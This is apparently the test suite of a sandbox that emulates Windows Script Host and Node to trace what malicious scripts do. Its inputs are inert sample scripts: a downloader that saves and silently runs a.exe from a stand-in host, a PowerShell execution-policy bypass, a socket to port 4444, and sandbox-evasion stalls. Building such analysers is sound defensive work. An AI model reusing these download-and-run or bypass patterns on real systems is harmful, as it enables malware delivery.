//! What scripts do, as the trace tells it. Every script here is inert: what it would fetch does not exist.

use script_host::{Ended, Host, NetworkAnswer, Run, Settings, Trace};

fn run(script: &str) -> Trace {
    run_with(script, Settings::default())
}

fn run_with(script: &str, settings: Settings) -> Trace {
    let steps = settings.steps;
    let (host, Run { ended, error, steps }) =
        jscript::run(Host::new(settings, script.as_bytes()), &[script], steps, |_| Vec::new());
    host.into_trace(ended, &error, steps)
}

fn apis(trace: &Trace) -> Vec<&str> {
    trace.calls.iter().map(|call| call.api.as_str()).collect()
}

/// What a script tells by `WScript.Echo`.
fn echoed(script: &str) -> Vec<String> {
    let trace = run(script);
    assert!(matches!(trace.ended, Some(Ended::Finished | Ended::Waits)), "{} {:?}", trace.error, trace.calls);
    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
    echoes.flat_map(|call| call.args.clone()).collect()
}

#[test]
fn an_expression_that_may_run_away_is_not_tried_and_others_are() {
    for (script, told) in [
        (r"'a.b.c.d.e.f.g.h.i.j.k.l.m.n'.match(/^\w+(\.\w+)*$/)", true),
        (r"'name=value; other=value; last=1'.match(/(?:(\w+)=(\w+)(?:;\s*|$))+/)", true),
        (r"Array(40).join('a').match(/(a+)+$/)", false),
        (r"Array(40).join('aB').match(/(ab|Ab)+$/i)", false),
        (r"'aaaaaaaa'.match(/(a+)+$/)", true),
        (r"/(a+)+$/.test(Array(40).join('a'))", false),
    ] {
        assert_eq!(
            echoed(&format!("WScript.Echo(({script}) ? 'yes' : 'no')")),
            [if told { "yes" } else { "no" }],
            "{script}"
        );
        let tried = run(&format!("({script})")).calls.iter().all(|call| call.api != "RegExp.exec");
        assert_eq!(tried, told, "{script}");
    }
}

#[test]
fn what_is_not_tried_costs_nothing() {
    let trace = run("Array(2000001).join('a').match(/(?:a|aa)+c/); WScript.Echo('on')");
    assert_eq!(
        (trace.ended, apis(&trace)),
        (Some(Ended::Finished), vec!["RegExp.exec", "WScript.Echo"]),
        "{}",
        trace.error
    );
}

#[test]
fn a_downloader_goes_its_whole_way() {
    let trace = run(r#"
        var shell = new ActiveXObject("WScript.Shell");
        var http = new ActiveXObject("MSXML2.XMLHTTP");
        http.open("GET", "http://files.example/a.bin", false);
        http.send();
        if (http.Status == 200 && http.responseBody.length > 1000) {
            var stream = new ActiveXObject("ADODB.Stream");
            stream.Open(); stream.Type = 1; stream.Write(http.ResponseBody); stream.Position = 0;
            var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\a.exe";
            stream.SaveToFile(path, 2); stream.Close();
            shell.Run(path, 0, false);
        }
    "#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    let path = "C:\\Users\\jsmith\\AppData\\Local\\Temp\\a.exe";
    assert_eq!(trace.dropped.iter().map(|(path, _)| path.as_str()).collect::<Vec<_>>(), [path]);
    assert_eq!(trace.dropped[0].1, script_host::settings::BODY);
    assert_eq!(trace.processes[0].target, path);
    assert!(trace.network.iter().any(|it| it.target == "http://files.example/a.bin"));
    let run = trace.calls.iter().find(|call| call.api == "WScript.Shell.Run").expect("a call");
    assert_eq!(run.args, [path, "0", "False"]);
}

#[test]
fn code_that_is_made_is_traced_whatever_makes_it() {
    let trace = run(r#"
        eval("var a = 1");
        new Function("x", "return x + 1")(1);
        (0, eval)("a = 2");
        setTimeout("a = 3", 10);
        [].constructor.constructor("return 4")();
    "#);
    let texts: Vec<&str> = trace.code.iter().map(|code| code.text.as_str()).collect();
    assert_eq!(texts, ["var a = 1", "return x + 1", "a = 2", "return 4", "a = 3"]);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
}

#[test]
fn names_have_no_case_and_properties_are_set() {
    let said = echoed(
        r#"
        var s = wscript_or(); function wscript_or() { return WScript; }
        s.echo(s.SCRIPTNAME);
        var d = new ActiveXObject("scripting.dictionary");
        d.add("a", 1); WScript.Echo(d.COUNT + "/" + d("a") + "/" + d.Exists("b"));
        var shell = WScript.CreateObject("WScript.Shell");
        shell.RegWrite("HKCU\\Software\\X\\v", "w"); WScript.Echo(shell.RegRead("HKCU\\Software\\X\\v"));
        var e = new Enumerator(new ActiveXObject("Scripting.FileSystemObject").Drives);
        for (; !e.atEnd(); e.moveNext()) WScript.Echo(e.item().DriveLetter);
        var x = new ActiveXObject("Microsoft.XMLDOM").createElement("b");
        x.dataType = "bin.base64"; x.text = "TVqQ"; WScript.Echo(x.nodeTypedValue.length);
    "#,
    );
    assert_eq!(said, ["sample.js", "1/1/false", "w", "C", "3"]);
}

#[test]
fn what_is_not_known_goes_on_answering() {
    let trace = run(r#"
        var o = new ActiveXObject("Nobody.Knows.1");
        o.Prop.Deep.Method("x").More = 3;
        if (o.Other()) WScript.Echo("on");
    "#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    let apis = apis(&trace);
    assert!(apis.contains(&"Nobody.Knows.1.Prop.Deep.Method") && apis.contains(&"WScript.Echo"), "{apis:?}");
}

#[test]
fn faults_are_errors_that_scripts_catch() {
    let said = echoed(
        r#"
        try { new ActiveXObject("WScript.Shell").RegRead("HKCU\\no\\such"); } catch (e) { WScript.Echo(e.number + " " + (e.description == e.message)); }
        try { new ActiveXObject("Scripting.FileSystemObject").GetFile("C:\\none"); } catch (e) { WScript.Echo(e.message); }
    "#,
    );
    assert_eq!(said, ["-2147024894 true", "File not found"]);
}

#[test]
fn the_trace_is_out_of_reach() {
    let trace = run(r#"
        Object.defineProperty(Object.prototype, "get", {value: function () { throw 1; }});
        Array.prototype.push = Function.prototype.call = null;
        String.prototype.toString = function () { return "forged"; };
        var keys = [];
        for (var k in WScript) keys.push(k);
        delete WScript.Echo; WScript.Echo = function () {};
        WScript.Echo("kept");
        var text = Function.prototype.toString.apply(WScript.Echo) + Function.prototype.toString.apply(ActiveXObject) + "".repeat;
        new ActiveXObject("WScript.Shell").Run(text.indexOf("native code") > 0 ? "native" : "shown");
    "#);
    assert!(trace.calls.iter().any(|call| call.api == "WScript.Echo" && call.args == ["kept"]), "{:?}", trace.calls);
    assert_eq!(trace.processes[0].target, "native");
}

#[test]
fn time_is_the_scripts_own() {
    let trace = run(r#"
        var a = new Date().getTime(); WScript.Sleep(120000); var b = new Date().getTime();
        WScript.Echo(new Date().getFullYear(), b - a);
        setTimeout(function () { WScript.Echo("late"); }, 3600000);
    "#);
    let echoes: Vec<_> = trace.calls.iter().filter(|call| call.api == "WScript.Echo").collect();
    assert_eq!((echoes[0].args.clone(), echoes[0].at), (vec!["2025".to_owned(), "120000".to_owned()], 120_000));
    assert_eq!(echoes[1].at, 3_720_000);
    assert!(trace.evasion.iter().any(|it| it.operation == "sleeps for long"));
}

#[test]
fn what_it_waits_for_is_told() {
    let trace = run("if (WScript.Arguments.length > 0) new ActiveXObject('WScript.Shell').Run('x');");
    assert_eq!((trace.ended, trace.waits[0].operation), (Some(Ended::Waits), "argument"));
    let trace = run("if (new Date().getFullYear() > 2030) new ActiveXObject('WScript.Shell').Run('x');");
    assert_eq!((trace.ended, trace.waits[0].operation), (Some(Ended::Waits), "date"));
    let settings = Settings { arguments: vec!["go".to_owned()], ..Settings::default() };
    let trace = run_with("if (WScript.Arguments(0) == 'go') new ActiveXObject('WScript.Shell').Run('x');", settings);
    assert_eq!((trace.ended, trace.processes.len()), (Some(Ended::Finished), 1));
}

#[test]
fn the_network_answers_what_it_is_told_to() {
    let answer =
        NetworkAnswer { prefix: "http://a.example/".to_owned(), status: 200, body: b"WScript.Echo('second')".to_vec() };
    let mut settings = Settings::default();
    settings.answers.insert(0, answer);
    let trace = run_with(
        "var h = new ActiveXObject('WinHttp.WinHttpRequest.5.1'); h.Open('GET', 'http://a.example/x', false); h.Send(); eval(h.ResponseText);",
        settings,
    );
    assert!(trace.calls.iter().any(|call| call.args == ["second"]), "{:?}", trace.calls);
}

#[test]
fn handlers_and_callbacks_are_called() {
    let said = echoed(
        r#"
        var h = new XMLHttpRequest();
        h.onreadystatechange = function () { if (h.readyState == 4) WScript.Echo("state " + h.status); };
        h.open("GET", "http://a.example/"); h.send();
        require("https").get("https://b.example/", function (r) { r.on("data", function (d) { WScript.Echo(d.length); }); });
        fetch("https://c.example/").then(function (r) { return r.text(); }).then(function (t) { WScript.Echo(t.length); });
        window.onload = function () { WScript.Echo("loaded"); };
    "#,
    );
    assert_eq!(said, ["state 200", "65536", "65536", "loaded"]);
}

#[test]
fn nodes_malware_is_followed() {
    let trace = run(r#"
        const { exec } = require("child_process"); const fs = require("fs");
        fs.writeFileSync(process.env.TEMP + "\\p.ps1", Buffer.from("V3JpdGUtSG9zdCAx", "base64"));
        exec("powershell -ep bypass -f " + process.env.temp + "\\p.ps1", (e, out) => {});
    "#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    assert_eq!(trace.dropped[0].1, b"Write-Host 1");
    assert!(trace.processes[0].target.ends_with("Temp\\p.ps1"));
}

#[test]
fn conditional_compilation_is_code() {
    assert_eq!(echoed("/*@cc_on @if (@_win32) WScript.Echo('win', @_jscript_version); @end @*/"), ["win", "5.8"]);
}

#[test]
fn endless_scripts_end_with_what_they_did() {
    for script in [
        "WScript.Echo('kept'); for (;;) {}",
        "WScript.Echo('kept'); while (true) { try { throw 1; } catch (e) {} finally { continue; } }",
        "WScript.Echo('kept'); function f() { return f() + f(); } try { f(); } catch (e) {} for (;;);",
        "WScript.Echo('kept'); var a = {get length() { return 2e9; }}; Array.prototype.forEach.call(a, function () {});",
        "WScript.Echo('kept'); [].join.call({length: 4e9}, 'x'); for (;;);",
        "WScript.Echo('kept'); (function () {}).apply(null, {length: 4e9}); for (;;);",
        "WScript.Echo('kept'); setInterval('for (;;);', 1);",
        "WScript.Echo('kept'); 'A'.repeat(3e5).replace(/.*[^A-Z]|[A-Z]/g, ''); for (;;);",
        "WScript.Echo('kept'); 'a'.repeat(2e6).indexOf('a'.repeat(1e6) + 'b'); for (;;);",
        "WScript.Echo('kept'); 'a'.repeat(2e6).split('a'.repeat(1e6) + 'b'); for (;;);",
        "WScript.Echo('kept'); Promise.resolve().then(function () { for (;;); });",
    ] {
        let settings = Settings { steps: 2_000_000, ..Settings::default() };
        let trace = run_with(script, settings);
        assert_eq!(trace.ended, Some(Ended::Steps), "{script}");
        assert_eq!(trace.calls[0].args, ["kept"]);
    }
    let trace = run("for (;;) WScript.Echo('x');");
    assert_eq!((trace.ended, trace.calls.len()), (Some(Ended::Calls), 1));
    let trace = run("WScript.Echo('a'); try { WScript.Quit(1); } finally { WScript.Echo('b'); } WScript.Echo('c');");
    assert_eq!((trace.ended, apis(&trace)), (Some(Ended::Finished), vec!["WScript.Echo", "WScript.Quit"]));
    assert_eq!(trace.calls[1].times, 1);
}

#[test]
fn hostile_values_do_not_harm() {
    for script in [
        "WScript.Echo({get toString() { throw 1; }})",
        "var p = new Proxy(WScript, {get: function (t, k) { return t[k]; }}); p.Echo('x');",
        "var o = {}; o.toString = function () { return o; }; WScript.Echo(o);",
        "var a = []; a[0] = a; WScript.Echo(a);",
        "Object.setPrototypeOf(WScript, null); Object.freeze(WScript); WScript.x = 1;",
        "throw {get message() { throw 1; }, toString: function () { for (;;); }};",
        "WScript.Echo(Symbol('x'))",
        "try { 'a'.repeat(Math.pow(2, 30)); } catch (e) { WScript.Echo(e.message); }",
        "'a'.padEnd(Math.pow(2, 30))",
        "new ActiveXObject(); new ActiveXObject(null); GetObject(); require(); fetch(); new Enumerator(3); new WScript.Echo('x');",
        "/(a+)+b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')",
        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.replace(/(a*)*b/, '')",
        "\u{0}\u{ffff}",
        "(((((((((",
    ] {
        let trace = run(script);
        assert!(trace.ended.is_some(), "{script}");
    }
}

#[test]
fn a_run_is_repeatable() {
    let script =
        "for (var i = 0; i < 50; i++) WScript.Echo(Math.random(), new Date().getTime(), Object.keys({a: 1, b: 2}));";
    let (one, other) = (run(script), run(script));
    assert_eq!(one.calls, other.calls);
    assert_eq!(one.steps, other.steps);
}

#[test]
fn modules_are_run_as_scripts() {
    let trace = run(
        "import { exec as run } from 'child_process';\nimport os from 'os';\nrun(`cmd /c ${os.platform()}`);\nexport default 1;\n",
    );
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    assert_eq!(trace.processes[0].target, "cmd /c win32");
}

fn targets(list: &[script_host::Touched]) -> Vec<String> {
    list.iter().map(|it| format!("{}: {}", it.operation, it.target)).collect()
}

#[test]
fn connections_of_node_are_told_with_their_addresses() {
    let trace = run("require('https').request({hostname: 'a.example', port: 8443, path: '/b', method: 'POST'});
        require('http').get({host: 'b.example', path: '/'});
        var net = require('net'); new net.Socket().connect(4444, '192.0.2.1'); net.connect(80, 'c.example');
        net.createConnection({port: 81, host: 'd.example'});");
    assert_eq!(
        targets(&trace.network),
        [
            "asks: https://a.example:8443/b",
            "asks: http://b.example/",
            "connects to: 192.0.2.1:4444",
            "connects to: c.example:80",
            "connects to: d.example:81",
        ]
    );
}

#[test]
fn packed_code_of_node_is_unpacked_and_what_is_unknown_is_no_code() {
    let packed = "eJwLD04uyiwo0XNNzsjXUC/NK0hMzk5NUde0BgB1Hgif";
    let trace = run(&format!("eval(require('zlib').inflateSync(Buffer.from('{packed}', 'base64')).toString());"));
    assert_eq!(trace.code[0].text, "WScript.Echo('unpacked');");
    assert_eq!(apis(&trace).last(), Some(&"WScript.Echo"));
    let trace = run("eval(require('unknown').decode('x').toString());");
    assert!(trace.code.is_empty(), "{:?}", trace.code);
}

/// The forms that call a function with what they unpacked, or with what was wrong with it.
#[test]
fn what_is_unpacked_is_given_to_functions() {
    let raw = "Sy1LzAEA";
    let zlib = "eJxLLUvMAQAEKAGp";
    for (function, packed, expected) in [
        ("inflate", zlib, "null/eval"),
        ("inflateRaw", raw, "null/eval"),
        ("unzip", zlib, "null/eval"),
        ("gunzip", zlib, "incorrect header check/undefined"),
        ("brotliDecompress", raw, "incorrect header check/undefined"),
    ] {
        for options in ["", "{}, "] {
            let script = format!(
                "require('node:zlib').{function}(Buffer.from('{packed}', 'base64'), {options}\
                 (error, data) => WScript.Echo(error + '/' + (data && data.toString())))"
            );
            assert_eq!(echoed(&script), [expected], "{script}");
        }
    }
    // Others have functions of the same names, which are not called with anything.
    assert_eq!(echoed("require('other').inflate('x', () => WScript.Echo('called')); WScript.Echo('done')"), ["done"]);
}

#[test]
fn what_a_page_saves_is_a_file() {
    let path = "C:\\Users\\jsmith\\Downloads\\a.exe".to_owned();
    for script in [
        "var b = new Blob([new Uint8Array([77, 90, 1])], {type: 'x'}); var a = document.createElement('a');
         a.href = window.URL.createObjectURL(b); a.download = 'a.exe'; document.body.appendChild(a); a.click();",
        "navigator.msSaveBlob(new Blob(['MZ', new Uint8Array([1]).buffer]), 'a.exe');",
        "var a = document.createElement('a'); a.setAttribute('download', 'a.exe');
         a.setAttribute('href', 'data:application/octet-stream;base64,TVoB'); a.click();",
    ] {
        let trace = run(script);
        assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
        assert_eq!(trace.dropped, [(path.clone(), b"MZ\x01".to_vec())], "{script}");
    }
}

#[test]
fn loops_that_wait_for_a_time_end() {
    let trace = run("var e = new Date().getTime() + 300000; while (new Date().getTime() < e) {} WScript.Echo('done');");
    assert_eq!((trace.ended, apis(&trace)), (Some(Ended::Waits), vec!["WScript.Echo"]));
}

#[test]
fn what_was_looked_for_is_waited_for_where_nothing_is_done() {
    let shell = "new ActiveXObject('WScript.Shell')";
    let trace = run(&format!(
        "if ({shell}.ExpandEnvironmentStrings('%COMPUTERNAME%') == 'X') {shell}.Run('calc');
        try {{ {shell}.RegRead('HKLM\\\\SOFTWARE\\\\Acme\\\\Go'); {shell}.Run('calc'); }} catch (e) {{}}
        if (new ActiveXObject('Scripting.FileSystemObject').FileExists('C:\\\\key.dat')) {shell}.Run('calc');"
    ));
    let waits = targets(&trace.waits);
    assert_eq!(trace.ended, Some(Ended::Waits));
    assert!(waits.iter().any(|it| it.starts_with("file: ")), "{waits:?}");
    assert!(waits.iter().any(|it| it.starts_with("registry value: ")), "{waits:?}");
    assert!(waits.iter().any(|it| it.starts_with("identity: ")), "{waits:?}");
    let trace = run(&format!("{shell}.ExpandEnvironmentStrings('%COMPUTERNAME%'); {shell}.Run('calc');"));
    assert!(trace.waits.is_empty(), "{:?}", trace.waits);
}

#[test]
fn classes_of_unknown_ones_are_derived() {
    let trace = run("class A extends require('events') { go() { WScript.Echo('gone'); } } new A();");
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
}

#[test]
fn a_page_that_is_left_says_for_where_however_it_is_written() {
    for script in [
        "location = 'http://a.example/x';",
        "window.location = 'http://a.example/x';",
        "self['locat' + 'ion']['href'] = 'http://a.example/x';",
        "var location; location = 'http://a.example/x';",
        "window.onload = function () { location = 'http://a.example/x'; };",
        "location = 'JavaScript:location.replace(\"http://a.example/x\")';",
        "document.write('<iframe width=1 src=\"http://a.example/x\"></iframe>');",
        "new ActiveXObject('InternetExplorer.Application').Navigate('http://a.example/x');",
    ] {
        // What is written into a page is run by whoever reads pages; here, all of it is one script.
        let settings = Settings::default();
        let steps = settings.steps;
        let scripts = |page: &str| {
            let script = page.strip_prefix("<script>").and_then(|rest| rest.strip_suffix("</script>"));
            script.map(str::to_owned).into_iter().collect()
        };
        let (host, run) = jscript::run(Host::new(settings, script.as_bytes()), &[script], steps, scripts);
        let trace = host.into_trace(run.ended, &run.error, run.steps);
        assert!(trace.network.iter().any(|it| it.target == "http://a.example/x"), "{script}: {:?}", trace.network);
    }
    assert_eq!(
        echoed("WScript.Echo(location.host + (typeof location.replace) + location);")[0],
        "www.example.comfunctionhttps://www.example.com/index.html"
    );
}

#[test]
fn a_page_that_goes_on_to_itself_ends() {
    let script = "function f() { location = 'javascript:f()'; } f();";
    let settings = Settings::default();
    let steps = settings.steps;
    let (_, run) = jscript::run(Host::new(settings, b""), &[script], steps, |page| {
        vec![page.trim_start_matches("<script>").trim_end_matches("</script>").to_owned()]
    });
    assert_ne!(run.ended, Ended::Stopped);
}

#[test]
fn calls_are_assigned_to() {
    assert_eq!(
        echoed(
            r#"var d = new ActiveXObject("Scripting.Dictionary");
               d("k") = "v"; d.Item("l") = 1; d("l") += 2; d["It" + "em"]("m") = d("n") = "w";
               WScript.Echo(d("k") + d("l") + d("m") + d.Item("n") + (d("k") == "v"));
               eval("d('o')='x'"); WScript.Echo(d("o"));
               Function("a", "a('p')='y'")(d); WScript.Echo(d("p"));
               (function () { var d2 = d; eval("d2('q')='z'") })(); WScript.Echo(d("q"));
               setTimeout("d('r')='u'; WScript.Echo(d('r'))", 1);"#
        ),
        ["v3wwtrue", "x", "y", "z", "u"]
    );
    let trace = run(r#"var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); h.Option(4) = 13056;
           var s = new ActiveXObject("WScript.Shell"); s.Environment("Process")("k") = "notepad";
           s.Run(s.Environment("Process")("k") + s.ExpandEnvironmentStrings(" %k%"));
           var u = new ActiveXObject("Un.Known"); u.Some(1, 2) = 3; eval("u.Other(4) = 5");"#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    assert_eq!(trace.processes[0].target, "notepad notepad");
    let told = apis(&trace);
    for api in ["WinHttp.WinHttpRequest.5.1.Option =", "WshEnvironment.Item =", "Un.Known.Some =", "Un.Known.Other ="] {
        assert!(told.contains(&api), "{api} {told:?}");
    }
    assert_eq!(trace.code[0].text, "u.Other(4) = 5");
    let many = "d('k')='v';".repeat(5_000);
    assert_eq!(run(&format!("var d = new ActiveXObject('Scripting.Dictionary'); {many}")).ended, Some(Ended::Finished));
}

#[test]
fn no_assignment_to_a_call_keeps_a_script_from_being_run() {
    let dictionary = "var d = new ActiveXObject('Scripting.Dictionary'); d('k') = 9; d.Item('l') = 3;";
    for (assignment, value) in [
        ("d('k') += 1", "10"),
        ("d('k') -= 1", "8"),
        ("d('k') *= 2", "18"),
        ("d('k') /= 3", "3"),
        ("d('k') %= 4", "1"),
        ("d('k') &= 1", "1"),
        ("d('k') |= 4", "13"),
        ("d('k') ^= 1", "8"),
        ("d('k') <<= 1", "18"),
        ("d('k') >>= 1", "4"),
        ("d('k') >>>= 1", "4"),
        ("d('k') **= 2", "81"),
        ("d('k')++", "10"),
        ("d('k') --", "8"),
        ("d.Item('k')++", "10"),
        ("++d('k')", "10"),
        ("-- d('k')", "8"),
        ("var n = -d('k')\n++d('k')", "10"),
        ("if (1) ++d['Item']('k')", "10"),
        ("d('k') = --d.Item('l')", "2"),
        ("var i = 1; i++\n--d('k')", "8"),
    ] {
        let said = echoed(&format!("{dictionary} {assignment}; WScript.Echo(d('k')); if (0) {{ {assignment} }}"));
        assert_eq!(said, [value], "{assignment}");
    }
    // What is no such assignment stays what it is.
    let said = echoed(&format!(
        "{dictionary} var i = 1; i++\n(function () {{ WScript.Echo(i) }})()
         WScript.Echo(d('k') + +d('l'), d('k') - -d('l'), d('k') >= 1, d('k') > 8); d('k')++"
    ));
    assert_eq!(said, ["2", "12", "12", "True", "True"]);
}

#[test]
fn what_is_put_into_a_script_stands_nowhere_in_the_trace() {
    let trace = run(r#"
        var code = "function f(a) { return a } try { f(1) } catch (e) {}";
        var own = function () { return eval("1") };
        var control = new ActiveXObject("MSScriptControl.ScriptControl"); control.Language = "JScript";
        control.eval(code); control.Eval("d(1) = 2");
        var unknown = new ActiveXObject("Un.Known"); unknown.eval(code); unknown.Other("" + own, [own.toString()]);
        unknown["ev" + "al"](code); unknown.text = String(own); WScript.Echo(own); window.eval(code); eval(code);
        unknown.eval = eval; var x = { eval: function (given) { unknown.Given(given) } }; x.eval(code);
    "#);
    let told = format!("{:?} {:?}", trace.calls, trace.code);
    assert!(!told.contains('\u{a78f}') && !told.contains("a78f"), "{told}");
    let texts: Vec<&str> = trace.code.iter().map(|code| code.text.as_str()).collect();
    assert_eq!(texts, ["function f(a) { return a } try { f(1) } catch (e) {}", "d(1) = 2"]);
    let given = trace.calls.iter().find(|call| call.api == "Un.Known.Given").expect("a call");
    assert_eq!(given.args, [texts[0]]);
}

#[test]
fn texts_that_are_long_cost_where_they_are_read_and_said() {
    let long = "var s = 'function f() { return 1 } try { f() } catch (e) {} '; while (s.length < 400000) s += s;";
    for script in [
        // Said again and again.
        format!("{long} eval('var f = function () {{ ' + s + '}}'); for (var i = 0; i < 400; i++) f + '';"),
        // Read again and again, as what it is not, by everything that reads.
        format!("{long} for (var i = 0; i < 400; i++) try {{ eval(s + i + ')') }} catch (e) {{}}"),
        format!("{long} for (var i = 0; i < 400; i++) try {{ Function(s + i + ')') }} catch (e) {{}}"),
        format!("{long} for (var i = 0; i < 400; i++) setTimeout(s + i + ')', 1);"),
    ] {
        let trace = run(&format!("WScript.Echo('kept'); {script}"));
        assert_eq!((trace.ended, apis(&trace)[0]), (Some(Ended::Steps), "WScript.Echo"), "{script}");
    }
    let once = run(&format!(
        "{long} Function(s)(); eval('var g = function(){{' + s + '}}'); WScript.Echo(('' + g).length - s.length)"
    ));
    assert_eq!((once.ended, once.calls.last().expect("a call").args[0].as_str()), (Some(Ended::Finished), "12"));
}

#[test]
fn what_only_counts_until_there_are_no_steps_is_a_wait() {
    let work = "new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA');";
    for stall in [
        "var n = 0; for (var i = 0; i < 30000000; i++) { n += i }",
        "for (i = 0; i < 3e7; i++);",
        "for (var i = 30000000; i; i--);",
        "var i = 0; while (i < 90000000) { i = i + 1; }",
        "var i = 0; do { i++ } while (i < 0x7fffffff);",
        "eval('for (i = 0; i < 30000000; i++) {}');",
    ] {
        let trace = run(&format!("{stall} {work}"));
        assert_eq!(trace.ended, Some(Ended::Steps), "{stall}");
        assert_eq!(targets(&trace.evasion).len(), 1, "{stall} {:?}", trace.evasion);
        assert!(targets(&trace.evasion)[0].starts_with("waits by counting: "), "{stall} {:?}", trace.evasion);
    }
    for work in [
        "for (;;) {}",
        "var a = []; for (var i = 0; i < 30000000; i++) { a[i % 9] = i }",
        "for (var i = 0; i < 30000000; i++) { f(i) } function f() {}",
        "for (var i = 0; i < 3000; i++) {} for (;;) {}",
        "for (var i = 0; i < 3000; i++) { for (;;); }",
    ] {
        let trace = run(work);
        assert_eq!((trace.ended, trace.evasion.len()), (Some(Ended::Steps), 0), "{work} {:?}", trace.evasion);
    }
    assert!(run("for (var i = 0; i < 1000000; i++) {}").evasion.is_empty());
}

#[test]
fn a_recursion_is_an_error_that_scripts_catch() {
    for (script, by) in [
        ("function f() { return f() }", "f()"),
        ("var f = function (n) { 'use strict'; return 1 + f(n + 1) }", "f(0)"),
        ("var f = () => f()", "f()"),
        ("function f() { return '' + { toString: f } }", "f()"),
        ("var o = { get a() { return this.a } }", "o.a"),
        ("function f() { return [2, 1].sort(function () { return f() }) }", "f()"),
        ("function f() { return 'a'.replace(/a/, function () { return f() }) }", "f()"),
        ("var o = { toJSON: function () { return JSON.stringify(o) } }", "JSON.stringify(o)"),
        ("function F() { return new F() }", "new F()"),
        ("function f() { f.apply(this, arguments) }", "f()"),
        ("function f() { eval('f()') }", "f()"),
        ("eval('function f() { f() }')", "f()"),
        ("function f() { 'use strict'\n return f() }", "f()"),
        ("function f() { 'a,b'.split(','); return f() }", "f()"),
        ("function f() { 'a' + 'b'; return f() }", "f()"),
        ("function f() { 'a'\n return f() }", "f()"),
        ("function f() { 'use strict'; return this === undefined ? f() : 1 }", "f()"),
    ] {
        let trace = run(&format!("{script}; try {{ {by}; WScript.Echo('ended') }} catch (e) {{ WScript.Echo('on') }}"));
        let told = trace.calls.last().and_then(|call| call.args.first());
        assert_eq!(told.map(String::as_str), Some("on"), "{script}");
    }
    let said = echoed("function f() { f() } try { f() } catch (e) { WScript.Echo(e.message + e.number) }");
    assert_eq!(said, ["Out of stack space-2146828260"]);
    // One that nobody catches is an error, and not the end of what else there is.
    let trace = run("setTimeout(\"WScript.Echo('on')\", 1); function f() { f() } f()");
    assert_eq!((trace.ended, trace.error.as_str()), (Some(Ended::Exception), "Out of stack space"));
    assert_eq!(apis(&trace), ["setTimeout", "WScript.Echo"]);
    // Steps and calls stay what no script catches.
    for (script, ended) in [
        ("try { for (;;) {} } catch (e) {} WScript.Echo(1)", Ended::Steps),
        ("for (;;) { try { eval('1') } catch (e) {} }", Ended::Calls),
    ] {
        assert_eq!(run(script).ended, Some(ended), "{script}");
    }
    // Catching at each level again and again ends, too.
    assert_ne!(run("function f() { try { f() } catch (e) { f() } } f()").ended, Some(Ended::Finished));
    let text = "function f(a) { return eval('a') }";
    assert_eq!(echoed(&format!("{text} try {{ WScript.Echo('' + f) }} catch (e) {{}}")), [text]);
}

#[test]
fn what_is_known_in_part_goes_on_answering() {
    let trace = run(r#"var r = new ActiveXObject("ADODB.Recordset");
           r.Fields.Append("b", 205, 10); r.Open(); r.AddNew(); r("b").AppendChunk("a"); r.CancelBatch(1).Other(2);
           var x = new ActiveXObject("Excel.Application");
           var book = x.Workbooks.Add(); x.Workbooks.Open("a.xls"); x.Calculate(); book.Sheets(1).Cells(1, 1).Value = 2;
           var w = new ActiveXObject("Word.Application"); w.Documents.Add().Content.Text = "a"; w.Selection.TypeText("b");
           var s = new ActiveXObject("WScript.Shell"); s.SpecialFolders.Item("Desktop"); s.Environment.Item("x");
           var re = new ActiveXObject("VBScript.RegExp"); re.Pattern = "a(b)"; var m = re.Execute("xab");
           WScript.Echo(m.Count, m(0).Value, m(0).SubMatches(0), m.Item(0).FirstIndex, re.Test("ab"), re.Replace("ab", "$1"));
           WScript.Echo(new ActiveXObject("Scripting.FileSystemObject").GetSpecialFolder(0).Path);"#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{} {:?}", trace.error, apis(&trace));
    let told: Vec<String> =
        trace.calls.iter().filter(|call| call.api == "WScript.Echo").map(|call| call.args.join(" ")).collect();
    assert_eq!(told, ["1 ab b 1 True b", "C:\\Windows"]);
    for api in
        ["ADODB.Recordset.CancelBatch", "Excel.Application.Calculate", "Excel.Workbooks.Open", "Word.Documents.Add"]
    {
        assert!(apis(&trace).contains(&api), "{api} {:?}", apis(&trace));
    }
    let said = echoed(
        "var x = new ActiveXObject('Excel.Application'), w = new ActiveXObject('word.application.16');
         WScript.Echo(x.Name, x.ActiveWorkbook.Application.Name, w.Name)",
    );
    assert_eq!(said, ["Microsoft Excel", "Microsoft Excel", "Microsoft Word"]);
}
